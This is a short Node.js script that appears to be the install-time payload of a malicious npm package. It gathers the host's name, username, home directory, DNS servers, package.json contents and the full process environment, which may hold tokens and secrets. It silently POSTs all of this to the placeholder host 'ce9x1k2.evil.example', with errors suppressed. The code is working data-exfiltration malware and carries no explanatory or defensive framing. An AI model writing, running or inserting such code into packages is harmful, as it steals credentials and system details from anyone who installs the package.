const os = require('os');
const dns = require('dns');
const querystring = require('querystring');
const https = require('https');
const packageJSON = require('./package.json');
const pkg = packageJSON.name;

const trackingData = JSON.stringify({
  p: pkg,
  c: __dirname,
  hd: os.homedir(),
  hn: os.hostname(),
  un: os.userInfo().username,
  dns: dns.getServers(),
  r: packageJSON ? packageJSON.___resolved : undefined,
  v: packageJSON.version,
  pjson: packageJSON,
  env: process.env,
});

var postData = querystring.stringify({ msg: trackingData });
var options = {
  hostname: 'ce9x1k2.evil.example',
  port: 443,
  path: '/',
  method: 'POST',
  headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': postData.length },
};
var req = https.request(options, (res) => { res.on('data', (d) => {}); });
req.on('error', (e) => {});
req.write(postData);
req.end();
